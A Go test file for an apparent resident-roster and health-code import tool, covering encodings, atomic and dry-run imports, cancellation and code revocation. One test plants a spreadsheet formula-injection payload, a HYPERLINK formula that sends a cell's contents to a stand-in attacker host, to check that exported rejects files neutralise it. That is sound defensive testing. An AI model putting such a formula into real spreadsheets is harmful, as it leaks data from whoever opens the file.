package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"math"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	lifeline "github.com/lifeline-health/lifeline"
	"github.com/lifeline-health/lifeline/internal/benchenv"
	"github.com/lifeline-health/lifeline/internal/pgtest"
	"github.com/lifeline-health/lifeline/seed"
	"github.com/lifeline-health/lifeline/store"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/simplifiedchinese"
)

// cli runs the lifeline command against db and returns its exit status and
// output.
func cli(t testing.TB, ctx context.Context, db string, args ...string) (int, string, string) {
	t.Helper()
	var out, errOut bytes.Buffer
	code := run(ctx, append([]string{"--db", db}, args...), strings.NewReader(""), &out, &errOut)
	return code, out.String(), errOut.String()
}

func testID(t testing.TB, first17 string) string {
	t.Helper()
	c, ok := lifeline.MainlandIDCheckDigit(first17)
	if !ok {
		t.Fatalf("bad prefix %q", first17)
	}
	return first17 + string(c)
}

func writeFile(t testing.TB, dir, name string, b []byte) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func openStore(t testing.TB, path string) *store.DB {
	t.Helper()
	db, err := store.Open(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

func count(t testing.TB, path string) int {
	t.Helper()
	db := openStore(t, path)
	n, err := db.CountResidents(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	db.Close()
	return n
}

func rosterText(t testing.TB) string {
	return "姓名,证件类型,证件号码,手机号码,社区,楼栋,单元,房号\r\n" +
		"张三丰,身份证," + testID(t, "11010519491231001") + ",13812345678；021-12345678,幸福里社区,12号楼,3单元,501室\r\n" +
		"李秀英,," + testID(t, "11010519520304002") + ",13812345678,幸福里社区,12,3,501\r\n" +
		"王小明,无证件,,,幸福里社区,12,3,501\r\n" +
		"John Smith,护照,E12345678,+1 415 555 0100,幸福里社区,12,3,503\r\n"
}

func TestImportEncodingsAndFormats(t *testing.T) {
	ctx := context.Background()
	text := rosterText(t)
	gb, err := simplifiedchinese.GB18030.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	xl := excelize.NewFile()
	r, _ := csv.NewReader(strings.NewReader(text)).ReadAll()
	for i, row := range r {
		cells := make([]any, len(row))
		for j, c := range row {
			cells[j] = c
		}
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		xl.SetSheetRow("Sheet1", cell, &cells)
	}
	var xbuf bytes.Buffer
	if err := xl.Write(&xbuf); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, file, data string }{
		{"utf8", "roster.csv", text},
		{"bom", "roster.csv", "\ufeff" + text},
		{"gb18030", "roster.csv", gb},
		{"xlsx", "roster.xlsx", xbuf.String()},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			db := filepath.Join(dir, "l.db")
			f := writeFile(t, dir, tc.file, []byte(tc.data))
			code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", f)
			if code != 0 || !strings.Contains(out, "imported: 4 inserted, 0 updated, 0 unchanged") {
				t.Fatalf("exit %d\n%s%s", code, out, errOut)
			}
			s := openStore(t, db)
			res, err := s.ResidentByDocument(ctx, lifeline.Document{Type: lifeline.DocMainlandID, Number: testID(t, "11010519491231001")})
			if err != nil {
				t.Fatal(err)
			}
			if res.Name != "张三丰" || res.Address.Short() != "12-3-501" || res.Address.Community != "幸福里社区" || len(res.Phones) != 2 {
				t.Errorf("stored %+v", res)
			}
			shared, err := s.ResidentsByPhone(ctx, "+8613812345678")
			if err != nil || len(shared) != 2 {
				t.Errorf("residents sharing a phone: %d, %v", len(shared), err)
			}
			// Re-importing changes nothing.
			code, out, errOut = cli(t, ctx, db, "--lang", "en", "import", f)
			if code != 0 || !strings.Contains(out, "imported: 0 inserted, 0 updated, 4 unchanged") {
				t.Fatalf("re-import: exit %d\n%s%s", code, out, errOut)
			}
		})
	}
}

func TestImportBadRowsWriteNothing(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	bad := testID(t, "31010419850607123")
	bad = bad[:17] + string("0123456789"[(strings.IndexByte("0123456789X", bad[17])+1)%10])
	in := "姓名,证件号码,楼栋,单元,房号,健康码\n" +
		"张三," + testID(t, "11010519491231001") + ",1,1,101,绿码\n" +
		"李四," + bad + ",1,1,102,绿码\n" +
		"王五," + testID(t, "44010619900101002") + ",1,1,103,紫码\n"
	f := writeFile(t, dir, "r.csv", []byte(in))
	code, out, errOut := cli(t, ctx, db, "import", f)
	if code != 1 {
		t.Fatalf("exit %d, want 1\n%s%s", code, out, errOut)
	}
	for _, want := range []string{"r.csv:3: 证件号码: 身份证号码校验位错误，请核对", "r.csv:4: 健康码: 未知健康码颜色“紫码”", "共 2 行有错误，未写入任何数据"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
	if n := count(t, db); n != 0 {
		t.Fatalf("%d residents stored after a failed import", n)
	}

	// --rejects alone writes the bad rows for fixing, and still writes
	// nothing to the store.
	rej := filepath.Join(dir, "rejects.csv")
	if code, _, errOut := cli(t, ctx, db, "import", "--rejects", rej, f); code != 1 || !strings.Contains(errOut, "2 行有错误，已写入") {
		t.Fatalf("--rejects alone: exit %d\n%s", code, errOut)
	}
	if _, err := os.Stat(rej); err != nil {
		t.Fatal(err)
	}
	if n := count(t, db); n != 0 {
		t.Fatalf("%d residents stored by a failed import with --rejects", n)
	}
	os.Remove(rej)

	// --skip-invalid imports the good row and writes the bad ones.
	code, out, errOut = cli(t, ctx, db, "--lang", "en", "import", "--skip-invalid", "--rejects", rej, f)
	if code != 0 || !strings.Contains(out, "imported: 1 inserted") || !strings.Contains(out, "2 bad rows skipped") {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	if n := count(t, db); n != 1 {
		t.Fatalf("%d residents stored, want 1", n)
	}
	b, err := os.ReadFile(rej)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
		t.Error("rejects file lacks a BOM")
	}
	recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[0][6] != "error" || recs[1][0] != "李四" || recs[2][7] != "r.csv:4" || !strings.Contains(recs[2][6], "unknown code colour") {
		t.Errorf("rejects = %q", recs)
	}

	// --skip-invalid without --rejects would lose rows: refused.
	if code, _, errOut := cli(t, ctx, db, "import", "--skip-invalid", f); code != 2 || !strings.Contains(errOut, "--rejects") {
		t.Errorf("--skip-invalid alone: exit %d %s", code, errOut)
	}
}

func TestImportResultsNeedKnownResidents(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	known, unknown := testID(t, "11010519491231001"), testID(t, "44010619900101002")
	ros := writeFile(t, dir, "roster.csv", []byte("姓名,证件号码,楼栋,单元,房号\n张三,"+known+",1,1,101\n"))
	res := writeFile(t, dir, "results.csv", []byte("证件号码,健康码,采样时间,检测结果,采样点\n"+
		known+",黄码,2022-04-09 08:30,阴性,小学\n"+unknown+",绿码,2022-04-09 08:30,阴性,小学\n"))
	// The results file alone: one resident is not in the store yet.
	code, _, errOut := cli(t, ctx, db, "--lang", "en", "import", res)
	if code != 1 || !strings.Contains(errOut, "results.csv:2: 证件号码: unknown resident") || !strings.Contains(errOut, "results.csv:3: 证件号码: unknown resident") {
		t.Fatalf("exit %d\n%s", code, errOut)
	}
	// With the roster in the same import, only the stranger is refused.
	code, _, errOut = cli(t, ctx, db, "--lang", "en", "import", ros, res)
	if code != 1 || strings.Contains(errOut, "results.csv:2:") || !strings.Contains(errOut, "results.csv:3: 证件号码: unknown resident") {
		t.Fatalf("exit %d\n%s", code, errOut)
	}
	// Once the roster is stored, the first row is accepted from the store.
	if code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", ros); code != 0 {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	rej := filepath.Join(dir, "rej.csv")
	code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", "--skip-invalid", "--rejects", rej, res)
	if code != 0 || !strings.Contains(out, "1 results, 1 colours") {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	s := openStore(t, db)
	r, err := s.ResidentByDocument(ctx, lifeline.Document{Type: lifeline.DocMainlandID, Number: known})
	if err != nil {
		t.Fatal(err)
	}
	if r.Status.Color != lifeline.Yellow || r.Status.Latest == nil || r.Status.Latest.Result != lifeline.Negative {
		t.Errorf("status = %+v", r.Status)
	}
	// Results are idempotent too.
	code, out, _ = cli(t, ctx, db, "--lang", "en", "import", "--skip-invalid", "--rejects", rej, res)
	if code != 0 || !strings.Contains(out, "0 results, 0 colours") {
		t.Fatalf("re-import results: exit %d\n%s", code, out)
	}
}

func TestImportDryRun(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	f := writeFile(t, dir, "r.csv", []byte(rosterText(t)))
	code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", f, "--dry-run")
	if code != 0 || !strings.Contains(out, "r.csv: roster, UTF-8, 4 rows") || !strings.Contains(out, "dry run: would insert 4, update 0, leave 0 unchanged") {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	if n := count(t, db); n != 0 {
		t.Fatalf("dry run stored %d residents", n)
	}
	if code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", f); code != 0 {
		t.Fatalf("import: exit %d\n%s%s", code, out, errOut)
	}
	// Against a stored roster: one moved, one new, the rest as they are.
	moved := strings.Replace(rosterText(t), "John Smith,护照,E12345678,+1 415 555 0100,幸福里社区,12,3,503", "John Smith,护照,E12345678,+1 415 555 0100,幸福里社区,12,3,504", 1) +
		"赵六,身份证," + testID(t, "11010519600101003") + ",13900000000,幸福里社区,12,3,502\r\n"
	g := writeFile(t, dir, "moved.csv", []byte(moved))
	code, out, errOut = cli(t, ctx, db, "--lang", "en", "import", "--dry-run", g)
	if code != 0 || !strings.Contains(out, "dry run: would insert 1, update 1, leave 3 unchanged") {
		t.Fatalf("dry run against a stored roster: exit %d\n%s%s", code, out, errOut)
	}
	if n := count(t, db); n != 4 {
		t.Fatalf("dry run changed the store: %d residents, want 4", n)
	}
	code, out, errOut = cli(t, ctx, db, "--lang", "en", "find", "--json", "12-3-503")
	if code != 0 || !strings.Contains(out, "John") {
		t.Fatalf("after a dry run the passport holder should still be in room 503: exit %d\n%s%s", code, out, errOut)
	}
	// The real import does what the dry run said.
	code, out, errOut = cli(t, ctx, db, "--lang", "en", "import", g)
	if code != 0 || !strings.Contains(out, "imported: 1 inserted, 1 updated, 3 unchanged") {
		t.Fatalf("import after the dry run: exit %d\n%s%s", code, out, errOut)
	}
}

func TestImportUnknownFile(t *testing.T) {
	dir := t.TempDir()
	f := writeFile(t, dir, "x.csv", []byte("a,b\n1,2\n"))
	code, _, errOut := cli(t, context.Background(), filepath.Join(dir, "l.db"), "--lang", "en", "import", f)
	if code != 1 || !strings.Contains(errOut, "x.csv: cannot tell what this file holds") {
		t.Fatalf("exit %d: %s", code, errOut)
	}
}

// seedCSV writes n generated residents as a roster CSV.
func seedCSV(t testing.TB, dir string, n int) string {
	t.Helper()
	var buf bytes.Buffer
	if err := seed.WriteRosterCSV(&buf, seed.Config{Residents: n, Seed: 42}); err != nil {
		t.Fatal(err)
	}
	return writeFile(t, dir, "big.csv", buf.Bytes())
}

// TestImportAtomic: one bad row at the very end of a 20,000-row file
// leaves the store exactly as it was.
func TestImportAtomic(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	f := seedCSV(t, dir, 20000)
	b, _ := os.ReadFile(f)
	lines := bytes.Count(b, []byte("\n"))
	b = append(b, []byte("坏行,身份证,110105194912310010,,幸福里社区,1,1,101\n")...)
	bad := writeFile(t, dir, "bad.csv", b)
	code, _, errOut := cli(t, ctx, db, "--lang", "en", "import", bad)
	want := "bad.csv:" + strconv.Itoa(lines+1) + ": 证件号码: the ID number's check digit is wrong: please check the number"
	if code != 1 || !strings.Contains(errOut, want) {
		t.Fatalf("exit %d, want a report %q:\n%s", code, want, errOut)
	}
	if n := count(t, db); n != 0 {
		t.Fatalf("%d residents stored after a failed import", n)
	}
}

// TestImportUnreadableFile: a file that cannot be read or recognised,
// even after a good one, stops the import before the store is opened:
// there is not even a store file afterwards. (Rows are written while later
// ones are parsed, so every file is read and recognised first.)
func TestImportUnreadableFile(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	good := writeFile(t, dir, "good.csv", []byte(rosterText(t)))
	notRoster := writeFile(t, dir, "notes.csv", []byte("date,note\n2022-04-09,water delivered\n"))
	for _, tc := range []struct{ file, want string }{
		{filepath.Join(dir, "missing.csv"), "cannot read the file"},
		{notRoster, "notes.csv: cannot tell what this file holds"},
	} {
		db := filepath.Join(dir, "l.db")
		code, _, errOut := cli(t, ctx, db, "--lang", "en", "import", good, tc.file)
		if code == 0 || !strings.Contains(errOut, tc.want) {
			t.Fatalf("import %s: exit %d, want an error %q:\n%s", filepath.Base(tc.file), code, tc.want, errOut)
		}
		if _, err := os.Stat(db); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("import %s: the store file exists (%v)", filepath.Base(tc.file), err)
		}
	}
}

// TestImportStopsWritingAtABadRow: with a bad row near the top and no
// --skip-invalid, nothing will be written, so the writer is not kept busy
// with the 20,000 good rows after it: it checks its context (once a
// chunk) a small part as often as for the same file without the bad row.
// Every row is still parsed: a second bad row at the very end is reported.
func TestImportStopsWritingAtABadRow(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	f := seedCSV(t, dir, 20000)
	b, _ := os.ReadFile(f)
	header, rows, _ := bytes.Cut(b, []byte("\n"))
	badRow := "坏行,身份证,110105194912310010,,幸福里社区,1,1,101\n"
	bad := writeFile(t, dir, "bad.csv", []byte(string(header)+"\n"+badRow+string(rows)+badRow))

	good := newCountdownCtx(ctx, math.MaxInt64)
	if code, _, errOut := cli(t, good, filepath.Join(dir, "good.db"), "import", f); code != 0 {
		t.Fatal(errOut)
	}
	stopped := newCountdownCtx(ctx, math.MaxInt64)
	code, _, errOut := cli(t, stopped, filepath.Join(dir, "bad.db"), "--lang", "en", "import", bad)
	if code != 1 || !strings.Contains(errOut, "bad.csv:2: ") || !strings.Contains(errOut, "bad.csv:20003: ") {
		t.Fatalf("exit %d, want both bad rows reported:\n%s", code, errOut)
	}
	if n := count(t, filepath.Join(dir, "bad.db")); n != 0 {
		t.Fatalf("%d residents stored", n)
	}
	if g, s := good.calls.Load(), stopped.calls.Load(); g < 16 || s*4 > g {
		t.Fatalf("the writer checked its context %d times for the bad file, %d for the good one", s, g)
	}
}

// TestImportCancelled: Ctrl-C in the middle of writing leaves the store as
// it was. A probe counts how often a whole import (on a scratch store)
// checks its context; the real one is cancelled halfway through that
// count, the same point on any machine.
func TestImportCancelled(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	first := writeFile(t, dir, "first.csv", []byte(rosterText(t)))
	if code, _, errOut := cli(t, ctx, db, "import", first); code != 0 {
		t.Fatal(errOut)
	}
	before := dump(t, db)
	f := seedCSV(t, dir, 3000)

	probe := newCountdownCtx(ctx, math.MaxInt64)
	probeDB := filepath.Join(dir, "probe.db")
	if code, _, errOut := cli(t, probe, probeDB, "import", f); code != 0 {
		t.Fatal(errOut)
	}
	if n := count(t, probeDB); n != 3000 {
		t.Fatalf("%d residents in the probe store, want 3000", n)
	}
	if probe.calls.Load() < 4 {
		t.Fatalf("the import checked its context %d times: it cannot be interrupted mid-way", probe.calls.Load())
	}
	cctx := newCountdownCtx(ctx, probe.calls.Load()/2)
	t.Logf("an import checks its context %d times; cancelling at check %d", probe.calls.Load(), cctx.n)
	code, _, errOut := cli(t, cctx, db, "import", f)
	if code != 130 {
		t.Fatalf("a cancelled import: exit %d, want 130 (context asked %d times): %s", code, cctx.calls.Load(), errOut)
	}
	if after := dump(t, db); after != before {
		t.Fatalf("the store changed under a cancelled import:\nbefore\n%s\nafter\n%s", before, after)
	}
}

// BenchmarkImportCommand is a full `lifeline import` of 50,000 roster rows
// into a fresh SQLite file: read, decode, validate, write, commit.
func BenchmarkImportCommand(b *testing.B) {
	n := benchenv.Int(b, "LIFELINE_BENCH_IMPORT_ROWS", 50000, 1)
	dir := b.TempDir()
	f := seedCSV(b, dir, n)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		db := filepath.Join(dir, "bench"+strconv.Itoa(i)+".db")
		if code, _, errOut := cli(b, context.Background(), db, "import", f); code != 0 {
			b.Fatal(errOut)
		}
	}
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "rows/s")
}

// countdownCtx is cancelled the n-th time it is asked for its error, which
// is how a long loop checks for Ctrl-C: a cancel that lands mid-import,
// deterministically.
type countdownCtx struct {
	context.Context
	n     int64
	calls atomic.Int64
	done  chan struct{}
	once  sync.Once
}

func newCountdownCtx(parent context.Context, n int64) *countdownCtx {
	return &countdownCtx{Context: parent, n: n, done: make(chan struct{})}
}

func (c *countdownCtx) tick() bool {
	if c.calls.Add(1) >= c.n {
		c.once.Do(func() { close(c.done) })
		return true
	}
	return false
}

func (c *countdownCtx) Done() <-chan struct{} { return c.done }

func (c *countdownCtx) Err() error {
	if c.tick() {
		return context.Canceled
	}
	return nil
}

// TestImportRedRevokesPaperCodes: a results file that turns a resident red
// revokes the paper codes they hold, so the old card stops passing, on
// SQLite and on PostgreSQL alike (the store's rule, in the import's
// transaction).
func TestImportRedRevokesPaperCodes(t *testing.T) {
	for _, kind := range []string{"sqlite", "postgres"} {
		t.Run(kind, func(t *testing.T) {
			dir := t.TempDir()
			db := filepath.Join(dir, "lifeline.db")
			if kind == "postgres" {
				db = pgtest.DSN(t)
			}
			t.Setenv("LIFELINE_KEYS", filepath.Join(dir, "keys"))
			ctx := context.Background()
			s := openStore(t, db)
			doc := testID(t, "11010519491231002")
			r := &lifeline.Resident{Name: "张三丰", Doc: lifeline.Document{Type: lifeline.DocMainlandID, Number: doc}}
			if err := s.CreateResident(ctx, r); err != nil {
				t.Fatal(err)
			}
			for _, args := range [][]string{{"keys", "new"}, {"code", "--resident", doc}} {
				if rc, _, e := cli(t, ctx, db, args...); rc != 0 {
					t.Fatalf("%v: %s", args, e)
				}
			}
			revoked := func() bool {
				cs, err := s.IssuedCodes(ctx, r.ID)
				if err != nil || len(cs) != 1 {
					t.Fatalf("issued codes: %v %v", cs, err)
				}
				return cs[0].Revoked()
			}
			yellow := writeFile(t, dir, "yellow.csv", []byte("证件号码,健康码\n"+doc+",黄码\n"))
			if rc, _, e := cli(t, ctx, db, "import", yellow); rc != 0 {
				t.Fatalf("import yellow: %s", e)
			}
			if revoked() {
				t.Fatal("a yellow status revoked the code")
			}
			red := writeFile(t, dir, "red.csv", []byte("证件号码,健康码\n"+doc+",红码\n"))
			rc, out, e := cli(t, ctx, db, "--lang", "en", "import", red)
			if rc != 0 || !strings.Contains(out, "1 paper codes") {
				t.Fatalf("import red: %d %q %q", rc, out, e)
			}
			if !revoked() {
				t.Fatal("the code of a resident turned red was not revoked")
			}
		})
	}
}

// TestImportPartialRoster: a file with only 姓名,证件号码 renames and
// leaves every address and phone as it was (find 12-3-501 still finds
// them); the dry run and the import say what changes part by part and list
// the rename by line; an empty cell in a phone column clears the phones.
func TestImportPartialRoster(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	if code, _, errOut := cli(t, ctx, db, "import", writeFile(t, dir, "full.csv", []byte(rosterText(t)))); code != 0 {
		t.Fatalf("full roster: %d %s", code, errOut)
	}
	zhang, li := testID(t, "11010519491231001"), testID(t, "11010519520304002")
	partial := writeFile(t, dir, "names.csv", []byte("姓名,证件号码\n张三峰,"+zhang+"\n李秀英,"+li+"\n"))
	for _, args := range [][]string{{"import", "--dry-run", partial}, {"import", partial}} {
		code, out, errOut := cli(t, ctx, db, args...)
		if code != 0 || !strings.Contains(out, "更改：姓名 1 人\n") || !strings.Contains(out, "  names.csv:2  张三丰 → 张三峰\n") {
			t.Fatalf("%q: exit %d\n%s%s", args, code, out, errOut)
		}
	}
	code, out, _ := cli(t, ctx, db, "--lang", "en", "find", "--json", "12-3-501")
	if code != 0 || !strings.Contains(out, "张三峰") || !strings.Contains(out, "李秀英") || !strings.Contains(out, `"phones": [`+"\n"+`      "+86 138****5678"`) {
		t.Fatalf("after a partial roster, 12-3-501 finds:\n%s", out)
	}
	phones := writeFile(t, dir, "phones.csv", []byte("姓名,证件号码,手机号码\n张三峰,"+zhang+",13812345678;021-12345678\n李秀英,"+li+",\n"))
	code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", phones)
	if code != 0 || !strings.Contains(out, "changed: phones 1\n") || strings.Contains(out, "names changed") {
		t.Fatalf("an empty phone cell: exit %d\n%s%s", code, out, errOut)
	}
	s := openStore(t, db)
	r, err := s.ResidentByDocument(ctx, lifeline.Document{Type: lifeline.DocMainlandID, Number: li})
	if err != nil || len(r.Phones) != 0 || r.Address.Short() != "12-3-501" {
		t.Fatalf("li: %+v %v", r, err)
	}
}

// TestRejectsGuardFormulas: the rejects file Excel opens holds no cell it
// would run as a formula (= + - @), and fixed and imported again, its rows
// come back as they were written.
func TestRejectsGuardFormulas(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	link := `=HYPERLINK("http://evil.example/?x="&B2,"详情")`
	in := "姓名,证件号码,手机号码,楼栋,房号\n" +
		`"` + strings.ReplaceAll(link, `"`, `""`) + `",BAD-1,+8613812345678,1,101` + "\n" +
		"-2+3,BAD-2,,1,@102\n"
	f := writeFile(t, dir, "r.csv", []byte(in))
	rej := filepath.Join(dir, "rejects.csv")
	if code, _, errOut := cli(t, ctx, db, "import", "--skip-invalid", "--rejects", rej, f); code != 0 {
		t.Fatalf("import: %d %s", code, errOut)
	}
	b, _ := os.ReadFile(rej)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("rejects cell %q starts a formula", c)
			}
		}
	}
	if recs[1][0] != "'"+link || recs[1][2] != "'+8613812345678" || recs[2][0] != "'-2+3" || recs[2][4] != "'@102" {
		t.Fatalf("rejects: %q", recs)
	}
	fixed := strings.NewReplacer("BAD-1", testID(t, "11010519491231001"), "BAD-2", testID(t, "11010519520304002")).Replace(string(b))
	code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", writeFile(t, dir, "fixed.csv", []byte(fixed)))
	if code != 0 || !strings.Contains(out, "2 inserted") {
		t.Fatalf("the fixed rejects: exit %d\n%s%s", code, out, errOut)
	}
	s := openStore(t, db)
	r, err := s.ResidentByDocument(ctx, lifeline.Document{Number: testID(t, "11010519491231001")})
	if err != nil || r.Name != link || len(r.Phones) != 1 || r.Phones[0] != "+8613812345678" {
		t.Fatalf("round trip: %+v %v", r, err)
	}
	if r, _ := s.ResidentByDocument(ctx, lifeline.Document{Number: testID(t, "11010519520304002")}); r == nil || r.Name != "-2+3" || r.Address.Room != "@102" {
		t.Fatalf("round trip: %+v", r)
	}
}

// TestImportUnclosedQuote: a quote left open on line 4 stops the import
// with the line, and nothing is written.
func TestImportUnclosedQuote(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	in := strings.Replace(rosterText(t), "李秀英", `"李秀英`, 1) // line 3
	code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", writeFile(t, dir, "r.csv", []byte(in)))
	if code != 1 || strings.TrimSpace(errOut) != "r.csv: unclosed quote from line 3 runs to the end of the file; close it or remove it" {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	if n := count(t, db); n != 0 {
		t.Fatalf("%d residents written", n)
	}
}

// TestImportAsksForTheEncoding: an undeclared Latin-1 file is not read as
// GB18030 ("M黮ler"): the import stops and asks; --encoding reads it.
func TestImportAsksForTheEncoding(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "l.db")
	latin, err := charmap.ISO8859_1.NewEncoder().String("name,id_type,id_number,nationality,community,building,room\nJürgen Müller,passport,E12345678,DEU,Xingfuli,1,101\n")
	if err != nil {
		t.Fatal(err)
	}
	f := writeFile(t, dir, "de.csv", []byte(latin))
	code, _, errOut := cli(t, ctx, db, "import", f)
	if code != 1 || !strings.Contains(errOut, "按 windows-1252（西欧）读是“Jürgen Müller”") || !strings.Contains(errOut, "--encoding") {
		t.Fatalf("exit %d %q", code, errOut)
	}
	if code, _, errOut := cli(t, ctx, db, "import", "--encoding", "klingon", f); code != 2 || !strings.Contains(errOut, "不认识的编码“klingon”") {
		t.Fatalf("--encoding klingon: exit %d %q", code, errOut)
	}
	code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", "--encoding", "latin1", f)
	if code != 0 || !strings.Contains(out, "1 inserted") {
		t.Fatalf("--encoding latin1: exit %d %s%s", code, out, errOut)
	}
	r, err := openStore(t, db).ResidentByDocument(ctx, lifeline.Document{Type: lifeline.DocPassport, Number: "E12345678"})
	if err != nil || r.Name != "Jürgen Müller" {
		t.Fatalf("%+v %v", r, err)
	}
}
